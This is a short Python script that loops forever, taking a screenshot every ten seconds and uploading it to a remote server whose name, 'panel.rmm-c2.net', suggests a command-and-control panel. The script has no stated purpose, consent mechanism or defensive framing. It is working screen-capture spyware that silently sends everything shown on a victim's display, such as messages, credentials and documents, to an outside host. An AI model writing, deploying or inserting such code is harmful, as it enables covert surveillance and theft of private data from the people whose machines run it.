import pyautogui, requests, io, time
while True:
    b = io.BytesIO(); pyautogui.screenshot().save(b, 'PNG')
    requests.post('https://panel.rmm-c2.net/shot', files={'f': b.getvalue()}); time.sleep(10)
